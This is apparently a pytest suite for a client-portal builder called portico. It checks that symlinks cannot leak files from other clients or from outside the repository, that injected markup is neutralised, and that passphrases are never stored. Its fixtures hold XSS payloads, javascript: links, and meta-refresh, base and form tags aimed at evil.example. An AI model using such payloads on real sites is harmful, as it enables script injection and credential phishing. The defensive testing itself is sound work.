"""Nothing reaches outside its client, no content can inject script, readers.yml stays public.

Each test breaks a copy of the demo practice the way a careless edit, a stray symlink or
a pasted title would, and proves the fault is named (`path:line: message`, no traceback)
and that no byte it could smuggle reaches a portal: through `portico check`, through a
real `portico build`, and through render + engine directly, as if `check` had been skipped.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from portico.cli import main
from portico.content.errors import ContentError
from portico.content.load import load_engagement, load_practice
from portico.engine.build import build_site
from portico.portal.markdown import engine_text, inert_html
from portico.portal.render import render_portal
from portico.protection.protect import SHELL_CSP

REPO = Path(__file__).resolve().parents[2]
TODAY = dt.date(2026, 11, 25)
SECRET = b"PORTICO-OUTSIDE-SECRET-7f3a9c"
LUMEN = "clients/lumen-health"


# --- helpers -------------------------------------------------------------------------


@pytest.fixture
def repo(tmp_path: Path, copy_demo: Callable[[Path], Path]) -> Path:
    """A copy of the demo practice to break."""
    return copy_demo(tmp_path / "repo")


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A file outside the repository whose bytes must never reach a portal."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_bytes(SECRET + b"\n")
    return path


def run(root: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["--root", str(root), *args])
    output = result.output
    assert "Traceback" not in output, output
    assert result.exception is None or isinstance(result.exception, SystemExit), output
    return result.exit_code, output


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")


def everything(folder: Path) -> bytes:
    """Every byte of every regular file under `folder` (symlinks are not followed)."""
    if not folder.exists():
        return b""
    return b"".join(p.read_bytes() for p in sorted(folder.rglob("*"))
                    if p.is_file() and not p.is_symlink())


def render_unchecked(root: Path, slug: str, out: Path) -> None:
    """render + engine on a client as if `check` had been skipped."""
    practice = load_practice(root)
    engagement = next(c for c in practice.clients if c.slug == slug)
    rendered = render_portal(engagement, practice, out, today=TODAY)
    build_site(rendered.config_file)


def assert_refused_everywhere(root: Path, tmp_path: Path, expected: list[str],
                              forbidden: bytes) -> None:
    """`check` and `build` name every problem; render refuses; `forbidden` is nowhere."""
    code, out = run(root, "check")
    assert code == 1
    for line in expected:
        assert line in out.splitlines(), out
    code, out = run(root, "build", "lumen-health")
    assert code == 1 and "lumen-health: build failed, its previous portal is untouched" in out
    for line in expected:
        assert f"{line}" in out, out
    assert not (root / "site/lumen-health").exists()
    with pytest.raises(ContentError) as refused:
        render_unchecked(root, "lumen-health", tmp_path / "unchecked")
    assert "refused" in str(refused.value), refused.value
    for folder in (root / "site", tmp_path / "unchecked"):
        assert forbidden not in everything(folder)


# --- 2. nothing reaches outside its client ---------------------------------------------


def test_a_symlink_in_files_leading_out_of_the_repository(repo: Path, tmp_path: Path,
                                                          secret_file: Path) -> None:
    (repo / LUMEN / "files").mkdir()
    (repo / LUMEN / "files/board-pack.pdf").symlink_to(secret_file)
    write(repo, {f"{LUMEN}/pages/evidence.md": """\
        # Evidence

        The [board pack](../files/board-pack.pdf) as sent.
        """})
    assert_refused_everywhere(repo, tmp_path, [
        f"{LUMEN}/files/board-pack.pdf: is a symlink to {secret_file.as_posix()}, outside the "
        "client's folder: refused, a portal holds only its own client's files",
        f"{LUMEN}/pages/evidence.md:3: link ../files/board-pack.pdf resolves (through a symlink) "
        "outside the client's folder",
    ], SECRET)


def test_the_files_folder_itself_a_symlink_into_another_client(repo: Path,
                                                               tmp_path: Path) -> None:
    (repo / LUMEN / "files").symlink_to(repo / "clients/harborline/files")
    write(repo, {f"{LUMEN}/pages/vendors.md": """\
        # Vendors

        ![Shortlist](../files/tms-vendor-shortlist.pdf)
        """})
    pdf = (repo / "clients/harborline/files/tms-vendor-shortlist.pdf").read_bytes()
    assert_refused_everywhere(repo, tmp_path, [
        f"{LUMEN}/files: is a symlink to clients/harborline/files, outside the client's folder: "
        "refused, a portal holds only its own client's files",
        f"{LUMEN}/pages/vendors.md:3: link ../files/tms-vendor-shortlist.pdf resolves (through a "
        "symlink) outside the client's folder",
    ], pdf[200:400])


def test_links_into_another_client_or_out_of_the_repository(repo: Path, tmp_path: Path,
                                                            secret_file: Path) -> None:
    up = os.path.relpath(secret_file, repo / LUMEN / "pages")
    write(repo, {f"{LUMEN}/pages/evidence.md": f"""\
        # Evidence

        See [Harborline's shortlist](../../harborline/files/tms-vendor-shortlist.pdf).
        ![Secret]({up})
        """})
    pdf = (repo / "clients/harborline/files/tms-vendor-shortlist.pdf").read_bytes()
    assert_refused_everywhere(repo, tmp_path, [
        f"{LUMEN}/pages/evidence.md:3: link ../../harborline/files/tms-vendor-shortlist.pdf "
        "points into another client's folder",
        f"{LUMEN}/pages/evidence.md:4: link {up} points outside the client's folder",
    ], SECRET)
    assert pdf[200:400] not in everything(tmp_path / "unchecked")


def test_a_markdown_page_symlinked_to_another_clients_page(repo: Path) -> None:
    page = repo / LUMEN / "pages/systems.md"
    page.parent.mkdir(parents=True)
    page.symlink_to(repo / "clients/harborline/pages/systems-map.md")
    expected = (f"{LUMEN}/pages/systems.md: is a symlink to clients/harborline/pages/"
                "systems-map.md, outside clients/lumen-health/: refused, a portal holds only "
                "its own client's files")
    code, out = run(repo, "check")
    assert code == 1 and expected in out.splitlines(), out
    code, out = run(repo, "build", "lumen-health")
    assert code == 1 and expected in out, out
    with pytest.raises(ContentError, match="is a symlink to"):
        load_engagement(repo, "lumen-health")
    assert b"Manifest database" not in everything(repo / "site")


def test_a_folder_of_pages_symlinked_to_another_clients_folder(repo: Path) -> None:
    # The loader resolves each folder once per run (Loader.real_path): a file reached
    # through a linked folder is as far outside as a linked file.
    shutil.rmtree(repo / LUMEN / "notes")
    (repo / LUMEN / "notes").symlink_to(repo / "clients/harborline/notes")
    note = sorted((repo / "clients/harborline/notes").glob("*.md"))[0].name
    expected = (f"{LUMEN}/notes/{note}: is a symlink to clients/harborline/notes/{note}, "
                "outside clients/lumen-health/: refused, a portal holds only its own "
                "client's files")
    code, out = run(repo, "check")
    assert code == 1 and expected in out.splitlines(), out
    with pytest.raises(ContentError, match="is a symlink to"):
        load_engagement(repo, "lumen-health")


def test_an_unreferenced_symlink_is_an_error_and_never_copied(repo: Path, tmp_path: Path,
                                                              secret_file: Path) -> None:
    (repo / LUMEN / "files").mkdir()
    (repo / LUMEN / "files/notes.txt").symlink_to(secret_file)
    code, out = run(repo, "check")
    assert code == 1 and f"{LUMEN}/files/notes.txt: is a symlink to" in out
    render_unchecked(repo, "lumen-health", tmp_path / "plain")  # builds: nothing refers to it
    assert (tmp_path / "plain/site/index.html").is_file()
    assert SECRET not in everything(tmp_path / "plain")


def test_a_logo_symlinked_out_of_the_client(repo: Path, tmp_path: Path,
                                            secret_file: Path) -> None:
    (repo / LUMEN / "files").mkdir()
    (repo / LUMEN / "files/logo.svg").symlink_to(secret_file)
    client = repo / LUMEN / "client.yml"
    client.write_text(client.read_text("utf-8") + "  logo: files/logo.svg\n", "utf-8")
    code, out = run(repo, "check")
    line = client.read_text("utf-8").splitlines().index("  logo: files/logo.svg") + 1
    assert code == 1
    assert (f"{LUMEN}/client.yml:{line}: logo files/logo.svg resolves (through a symlink) "
            "outside the client's folder") in out.splitlines(), out
    with pytest.raises(ContentError, match="refused"):
        render_unchecked(repo, "lumen-health", tmp_path / "unchecked")
    assert SECRET not in everything(tmp_path / "unchecked")


# --- 3. no injection --------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><svg onload=alert(1)>'


def _q(text: str) -> str:
    return json.dumps(text)  # a YAML double-quoted scalar


MOVES_LINES = {  # line in the file → what `check` must name there
    3: "<meta http-equiv=\"refresh\">", 5: "<base>", 7: "<form>", 9: "raw <script>",
    11: "<iframe>", 12: "<object>", 13: "<embed>", 15: "onerror= event handler",
    18: "onclick= event handler in an attribute list", 20: "javascript: link",
}
MOVES = """# Moves

<meta http-equiv="refresh" content="0;url=https://evil.example/login">

<base href="https://evil.example/">

<form action="https://evil.example/"><input name="passphrase"></form>

<script>alert("moved")</script>

<iframe src="https://evil.example/"></iframe>
<object data="x.swf"></object>
<embed src="x.swf">

<img src="../files/chart.png" alt="Chart" onerror="alert(2)">

A paragraph that clicks.
{: onclick="alert(3)" }

[Sign in again](javascript:alert(4)) and <a href="javascript:alert(5)">here</a>.

Press <kbd>Ctrl</kbd>+<kbd>K</kbd>; H<sub>2</sub>O; x<sup>2</sup>; <span class="tag">kept</span>.

<details markdown="1">
<summary>Kept details</summary>

Inside **details**.
</details>

!!! note "Kept admonition"
    Body with <abbr title="Kept abbr">KA</abbr>.

| Kept | Table |
| --- | --- |
| a | b |

- [x] kept task

Kept footnote[^1].

[^1]: The note.

`<script>in code</script>` is text.

```html
<meta http-equiv="refresh" content="0">
```
"""
INJECTION = {
    "clients/evil/client.yml": f"""\
        name: {_q("Evil " + SCRIPT + " Co")}
        engagement:
          start: 2026-03-02
          model: {_q("model " + BREAKOUT)}
          cadence: {_q("cadence " + SCRIPT)}
          summary: {_q("**Bold summary** and a [link](https://example.com) "
                       "<b onmouseover=alert(1)>b</b> {: onclick=alert(1) }")}
          next_steps:
            - {_q("step <img src=x onerror=alert(1)>")}
        contacts:
          - name: {_q("contact " + SCRIPT)}
            role: {_q("role " + BREAKOUT)}
            email: {_q('x"onmouseover="alert(1)@example.com')}
        """,
    "clients/evil/risks.yml": f"""\
        risks:
          - id: {_q("K1" + BREAKOUT)}
            title: {_q("risk " + SCRIPT)}
            description: {_q("desc " + BREAKOUT)}
            likelihood: 4
            impact: 5
            residual_likelihood: 2
            residual_impact: 2
            owner: {_q("owner " + BREAKOUT)}
            mitigation: {_q("mitigation " + SCRIPT)}
            status: open
          - id: K2
            title: {_q("closed " + BREAKOUT)}
            likelihood: 1
            impact: 1
            status: closed
        """,
    "clients/evil/roadmap.yml": f"""\
        workstreams: [{_q("lane " + SCRIPT)}]
        items:
          - id: R1
            title: {_q("item " + SCRIPT)}
            workstream: {_q("lane " + SCRIPT)}
            start: 2026-Q1
            end: 2026-Q2
            status: in-progress
            owner: {_q("item owner " + BREAKOUT)}
            description: {_q("item desc " + BREAKOUT)}
          - id: R2
            title: {_q("undated " + BREAKOUT)}
            status: planned
        milestones:
          - title: {_q("milestone " + SCRIPT)}
            date: 2026-05-01
        """,
    "clients/evil/assessment.md": f"""\
        ---
        title: {_q("assessment " + SCRIPT)}
        scores:
          - area: {_q("area " + SCRIPT)}
            score: 2
            target: 4
            note: {_q("note " + BREAKOUT)}
        ---
        Body.
        """,
    "clients/evil/decisions/0001-x.md": f"""\
        ---
        status: {_q("on hold " + SCRIPT)}
        decision-makers: [{_q("maker " + SCRIPT)}]
        ---
        # decision {SCRIPT}

        Body.
        """,
    "clients/evil/notes/2026-01-01-x.md": f"""\
        ---
        attendees: {_q("attendee " + SCRIPT)}
        ---
        # note {BREAKOUT}

        Body.
        """,
    "clients/evil/pages/a.md": f"---\ntitle: {_q('page ' + SCRIPT)}\n---\nPage A.\n",
    "clients/evil/pages/b.md": f"---\ntitle: {_q('page ' + SCRIPT)}\n---\nPage B, same title.\n",
    "clients/evil/pages/raw.md": "# Raw HTML page\n\nPress <kbd>Ctrl</kbd>.\n",
    "clients/evil/pages/moves.md": MOVES,
}
FIELDS = [
    "Evil " + SCRIPT + " Co", "model " + BREAKOUT, "contact " + SCRIPT, "role " + BREAKOUT,
    "risk " + SCRIPT, "desc " + BREAKOUT, "owner " + BREAKOUT, "mitigation " + SCRIPT,
    "closed " + BREAKOUT, "lane " + SCRIPT, "item " + SCRIPT, "item desc " + BREAKOUT,
    "undated " + BREAKOUT, "milestone " + SCRIPT, "assessment " + SCRIPT, "area " + SCRIPT,
    "note " + BREAKOUT, "on hold " + SCRIPT, "maker " + SCRIPT, "decision " + SCRIPT,
    "attendee " + SCRIPT, "page " + SCRIPT, "step <img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>b</b>", "{: onclick=alert(1) }",
]


class _Html(HTMLParser):
    """Elements, event-handler attributes, inline scripts and visible text of a document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.handlers: list[str] = []
        self.inline_scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.handlers += [f"<{tag} {name}=...>" for name, _ in attrs if name.startswith("on")]
        self._in_script = tag == "script" and not dict(attrs).get("src")
        if self._in_script:
            self.inline_scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.inline_scripts[-1] += data
        else:
            self.text.append(data)


def parse(text: str) -> _Html:
    page = _Html()
    page.feed(text)
    page.close()
    return page


@pytest.fixture(scope="module")
def evil_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The plain site (render + engine) of a client whose every field carries markup."""
    root = tmp_path_factory.mktemp("evil")
    shutil.copyfile(REPO / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(REPO / "theme", root / "theme")
    write(root, INJECTION)
    practice = load_practice(root)
    rendered = render_portal(practice.clients[0], practice, root / "out", today=TODAY)
    return build_site(rendered.config_file).site_dir


def test_no_field_can_inject_an_element_or_a_handler(evil_site: Path) -> None:
    pages = sorted(evil_site.rglob("*.html"))
    assert len(pages) > 8
    for path in pages:
        page = parse(path.read_text("utf-8"))
        assert page.handlers == [], f"{path}: {page.handlers}"
        assert not [s for s in page.inline_scripts if "alert" in s], path
        assert not [t for t, a in page.tags if t == "img" and a.get("src") == "x"], path
    index = json.loads((evil_site / "search/search_index.json").read_text("utf-8"))
    for doc in index["docs"]:  # Material shows titles and text of results as HTML
        for field in (doc["title"], doc["text"]):
            found = parse(field)
            assert found.handlers == [] and "script" not in [t for t, _ in found.tags], doc


def test_every_field_shows_as_the_text_written(evil_site: Path) -> None:
    text = "\n".join(" ".join("".join(parse(p.read_text("utf-8")).text).split())
                     for p in sorted(evil_site.rglob("*.html")))
    missing = [field for field in FIELDS if field not in text]
    assert missing == []
    head = parse((evil_site / "risks/index.html").read_text("utf-8"))
    title = next(t for t, _ in head.tags if t == "title")
    assert title and "Risks - Evil <script>alert(1)</script> Co" in "".join(head.text)


def test_yaml_markdown_fields_keep_markdown_but_not_html(evil_site: Path) -> None:
    home = parse((evil_site / "index.html").read_text("utf-8"))
    assert ("strong", {}) in home.tags
    assert any(t == "a" and a.get("href") == "https://example.com" for t, a in home.tags)
    assert not [t for t, _ in home.tags if t == "b"]


def test_raw_html_in_markdown_pages_is_kept_by_design(evil_site: Path) -> None:
    pages = [parse(p.read_text("utf-8")) for p in (evil_site / "pages").rglob("index.html")]
    assert any(("kbd", {}) in page.tags for page in pages)


def test_two_pages_with_one_title_are_both_in_the_portal(evil_site: Path) -> None:
    bodies = [p.read_text("utf-8") for p in (evil_site / "pages").rglob("index.html")]
    assert any("Page A." in b for b in bodies) and any("Page B, same title." in b for b in bodies)


@pytest.mark.parametrize(("written", "shown"), [
    ("<b onclick=x>hi</b>", "&lt;b onclick=x>hi&lt;/b>"),
    ("<!-- c --> <?php ?>", "&lt;!-- c --> &lt;?php ?>"),
    ("para {: onclick=x }", "para &#123;: onclick=x }"),
    ("see <https://example.com> or <dana@example.com>", "see <https://example.com> or "
     "<dana@example.com>"),
    ("`<b>` and\n\n```\n<i>{x}</i>\n```\n", "`<b>` and\n\n```\n<i>{x}</i>\n```\n"),
    ("[report](<files/q3 report.pdf>)", "[report](<files/q3 report.pdf>)"),
    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
])
def test_inert_html(written: str, shown: str) -> None:
    assert inert_html(written) == shown


def test_engine_titles_are_escaped_on_one_line() -> None:
    assert engine_text('A "b"\n<c> & d') == "A &quot;b&quot; &lt;c&gt; & d"


def test_the_built_shell_allows_only_its_own_origin(repo: Path) -> None:
    code, out = run(repo, "build", "lumen-health")
    assert code == 0, out
    shells = sorted((repo / "site/lumen-health").rglob("*.html"))
    assert shells
    for path in shells:
        page = parse(path.read_text("utf-8"))
        [csp] = [a["content"] for t, a in page.tags if t == "meta"
                 and (a.get("http-equiv") or "").lower() == "content-security-policy"]
        assert csp == SHELL_CSP
        directives = dict((d.split()[0], d.split()[1:]) for d in csp.split(";") if d.strip())
        assert directives["default-src"] == ["'self'"] and directives["script-src"] == ["'self'"]
        assert directives["object-src"] == ["'none'"]
        for sources in directives.values():
            assert set(sources) <= {"'self'", "'none'", "data:", "blob:"}, csp
        assert page.inline_scripts == [] and page.handlers == []
        scripts = [a["src"] for t, a in page.tags if t == "script"]
        assert scripts and all(s and not re.match(r"(https?:)?//", s) for s in scripts)


# --- 5. readers.yml holds public material only ----------------------------------------

PASSPHRASE = "correct-horse-battery-staple-42"


def test_check_and_build_refuse_a_secret_in_readers_without_echoing_it(repo: Path) -> None:
    readers = repo / LUMEN / "readers.yml"
    readers.write_text(readers.read_text("utf-8") + f"  passphrase: {PASSPHRASE}\n", "utf-8")
    line = len(readers.read_text("utf-8").splitlines())
    expected = (f"{LUMEN}/readers.yml:{line}: `passphrase` does not belong in readers.yml: it "
                "keeps public material only (id, kind, label, views, salt, iterations, "
                "public_key); if it "
                "ever held a real secret, treat that secret as exposed: remove the reader, "
                "add them again and rebuild")
    for args in (("check",), ("build", "lumen-health")):
        code, out = run(repo, *args)
        assert code == 1 and expected in out.splitlines() + [o.strip() for o in out.splitlines()]
        assert PASSPHRASE not in out
    assert not (repo / "site/lumen-health").exists()


def _files_holding(folder: Path, needle: bytes) -> list[str]:
    return [p.as_posix() for p in folder.rglob("*")
            if p.is_file() and not p.is_symlink() and needle in p.read_bytes()]


@pytest.mark.parametrize("chosen", [True, False], ids=["stdin", "generated"])
def test_reader_add_never_writes_the_passphrase(tmp_path: Path, chosen: bool) -> None:
    root = tmp_path / "repo"
    write(root, {"mkdocs.yml": "site_name: T\n",
                 "clients/acme/client.yml": "name: Acme\nengagement:\n  start: 2026-03-02\n"})
    home = tmp_path / "home"
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(tmp_path / "tmp"),
           "XDG_CACHE_HOME": str(home / ".cache"), "PYTHONDONTWRITEBYTECODE": "1"}
    for folder in (home, tmp_path / "tmp"):
        folder.mkdir()
    args = [sys.executable, "-m", "portico", "reader", "add", "acme", "dana", "--label",
            "Dana Reyes, CEO"] + (["--passphrase-stdin"] if chosen else [])
    done = subprocess.run(args, cwd=root, env=env, input=PASSPHRASE + "\n" if chosen else "",
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    if chosen:
        passphrase = PASSPHRASE
        assert passphrase not in done.stdout + done.stderr
    else:
        passphrase = done.stdout.splitlines()[-1].strip()  # shown once, by design
        assert re.fullmatch(r"[a-z]+(-[a-z]+){7}", passphrase)
    assert (root / "clients/acme/readers.yml").is_file()
    for form in {passphrase, passphrase.upper(), passphrase.replace("-", " ")}:
        assert _files_holding(tmp_path, form.encode()) == []
        assert _files_holding(tmp_path, form.encode("utf-16-le")) == []
    code, out = run(root, "check")
    assert code == 0, out


def test_markdown_html_that_moves_the_reader_is_removed_and_the_rest_kept(
        evil_site: Path) -> None:
    moves = next(p for p in (evil_site / "pages").rglob("index.html")
                 if "Kept details" in p.read_text("utf-8"))
    text = moves.read_text("utf-8")
    article = text[text.index("<article"):text.index("</article>")]
    page = parse(article)
    tags = [t for t, _ in page.tags]
    assert "passphrase" not in article
    for gone in ("meta", "base", "form", "iframe", "object", "embed", "script"):
        assert gone not in tags, gone
    assert page.handlers == [] and "javascript:" not in article and "evil.example" not in article
    for kept in ("kbd", "sub", "sup", "details", "summary", "abbr", "table", "img"):
        assert kept in tags, kept
    assert ("span", {"class": "tag"}) in page.tags
    assert any(t == "div" and "admonition" in (a.get("class") or "") for t, a in page.tags)
    assert any(t == "div" and "footnote" in (a.get("class") or "") for t, a in page.tags)
    assert "task-list-item" in article and "&lt;script&gt;in code&lt;/script&gt;" in article
    assert "&lt;meta http-equiv" in article.replace('<span class="nt">meta</span>', "meta") \
        or "meta</span>" in article  # the fenced example stays, as highlighted text
    index = (evil_site / "search/search_index.json").read_text("utf-8")
    assert "evil.example" not in index and "alert(" not in index.replace("alert(1)", "")


def test_check_names_each_removed_construct_at_its_line(tmp_path: Path) -> None:
    root = tmp_path / "evil"
    root.mkdir()
    shutil.copyfile(REPO / "mkdocs.yml", root / "mkdocs.yml")
    write(root, {"clients/evil/client.yml": INJECTION["clients/evil/client.yml"],
                 "clients/evil/pages/moves.md": MOVES})
    code, out = run(root, "check")
    for line, what in MOVES_LINES.items():
        assert any(f"clients/evil/pages/moves.md:{line}:" in row and what in row
                   for row in out.splitlines()), (line, what, out)
    assert "moves.md:4" not in out and ":40:" not in out  # code is text, not a construct
